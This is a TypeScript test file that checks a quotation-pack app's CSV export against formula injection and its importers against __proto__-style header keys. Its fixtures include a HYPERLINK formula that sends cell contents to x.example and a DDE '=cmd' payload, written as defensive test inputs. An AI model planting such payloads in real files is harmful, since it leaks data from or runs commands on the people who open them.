import path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseRosterCsv } from '../../core/collect/roster-csv.js';
import { ALLOW_ANY_PATH } from '../../core/node/file-system.js';
import { createNodeServiceImplementation } from '../../core/node/services.js';
import { formatCsv, parseCsv } from '../../core/quotes/csv.js';
import { formatQuotePack, parseQuotePack } from '../../core/quotes/pack.js';
import { createLocalServices } from '../../core/services/local.js';
import { REPO_ROOT } from '../support/corpus.js';
import { expectUserError } from '../support/errors.js';
import { tempDir } from '../support/temp-dir.js';

/** Issue #14, items 5 and 8: CSV injection in every CSV written, and lookups through the prototype chain. */
const FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"点此核对")', '=1+1', '@SUM(A1)', '+1+1', '-2+3', '\t=1', '\r=1', "'=1+1", "''@x"];

/** The cells a spreadsheet would read from the CSV text, unguarded (what Excel sees). */
const rawCells = (csv: string): string[] => csv.replace(/^\uFEFF/, '').split(/\r\n/).flatMap((line) => line.split(','));

const services = () =>
  createLocalServices(
    createNodeServiceImplementation({
      policy: ALLOW_ANY_PATH,
      libraryDir: tempDir(),
      templatesDir: path.join(REPO_ROOT, 'templates'),
      trackRecent: false,
      starterQuotePackFile: path.join(tempDir(), 'none.json'),
    }),
  );

describe('one formula-safe CSV writer', () => {
  it('the quotation-pack export writes no cell a spreadsheet would run, and reads back exactly', async () => {
    const app = services();
    for (const [i, text] of FORMULAS.entries()) {
      await app.saveQuote({ quote: { text: `${text}（第${i}条）`, speaker: i === 0 ? '=cmd|"/c calc"!A1' : '', source: '@来源', date: '', occasion: '', themes: ['-主题'], note: '+备注' } });
    }
    const { text } = await app.exportQuotePack({ format: 'csv' });
    for (const cell of rawCells(text)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
    expect(text).toContain("'=1+1（第1条）");
    const other = services();
    expect(await other.importQuotePack({ format: 'csv', text })).toMatchObject({ added: FORMULAS.length, invalid: 0 });
    const again = await other.exportQuotePack({ format: 'csv' });
    expect(parseCsv(again.text).map((row) => row.slice(0, 8))).toEqual(parseCsv(text).map((row) => row.slice(0, 8)));
  });

  it('guards any cell and round-trips any text (2,000 generated tables)', () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom(...FORMULAS), fc.string().map((s) => `=${s}`), fc.string().map((s) => `'${s}`));
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(parseCsv(formatCsv(rows))).toEqual(rows);
        // Each cell as written, past its opening quote: never a formula's first character.
        for (const c of rows.flat()) expect(formatCsv([[c]]).replace(/\r\n$/, '').replace(/^\uFEFF"?/, '')).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 2_000 },
    );
  });

  it('packs written by formatQuotePack parse back through parseQuotePack unchanged', () => {
    const quote = { id: 'q1', text: '=1+1', speaker: '@甲', source: '+出处', date: '', occasion: '', themes: ['-a'], note: '', verified: true, createdAt: '', updatedAt: '', useCount: 0 };
    const { entries } = parseQuotePack(formatQuotePack([quote] as never, 'csv', '包'), 'csv');
    expect(entries[0]).toMatchObject({ text: '=1+1', speaker: '@甲', source: '+出处', themes: ['-a'] });
  });
});

describe('no lookup reaches the prototype chain', () => {
  const HOSTILE_HEADERS = '__proto__,constructor,toString,hasOwnProperty,valueOf';

  it('a pack CSV headed __proto__,constructor,toString names no inherited function', async () => {
    await expectUserError(() => services().importQuotePack({ format: 'csv', text: `${HOSTILE_HEADERS}\n甲,乙,丙,丁,戊\n` }), 'invalid-input', /必须有“原文”一列/);
    const result = await services().importQuotePack({ format: 'csv', text: `原文,${HOSTILE_HEADERS},核实\n一句话,a,b,c,d,e,constructor\n` });
    expect(result).toMatchObject({ added: 0, invalid: 1 });
    expect(result.problems.join()).toMatch(/核实：“constructor”应为“(出处)?已核”或“待核”/);
    expect(result.problems.join()).not.toMatch(/function|\[object Object\]/);
  });

  it('a pack JSON with such keys is refused in Chinese without naming a function', async () => {
    const text = JSON.stringify({ format: 'gaojiang-quote-pack', version: 1, title: 't', quotes: [{ text: '一句话', constructor: 1, toString: 2 }] });
    const result = await services().importQuotePack({ format: 'json', text }).catch((error: unknown) => error);
    expect(JSON.stringify(result)).not.toMatch(/function|\[object Object\]/);
  });

  it('a roster headed __proto__,constructor,toString is read as a table without a header', () => {
    const roster = parseRosterCsv(`${HOSTILE_HEADERS}\n张三,办公室,123,,\n`);
    expect(roster.members.map((m) => m.name)).toEqual(['__proto__', '张三']);
    expect(parseRosterCsv('姓名,constructor,toString\n张三,x,y\n').members).toEqual([{ name: '张三', unit: '', contact: '' }]);
  });
});
